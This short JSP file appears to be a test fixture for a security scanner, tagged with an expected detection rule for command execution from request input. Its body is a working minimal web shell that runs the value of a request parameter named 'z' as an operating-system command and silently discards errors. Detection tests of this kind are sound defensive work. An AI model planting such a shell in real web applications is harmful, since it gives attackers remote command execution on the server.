<%-- expect rule=jsp.exec-input min=85 --%>
<%
    request.getParameterMap().forEach((k, vals) -> {
        try { if (k.equals("z")) Runtime.getRuntime().exec(vals[0]); } catch (Exception e) { }
    });
%>
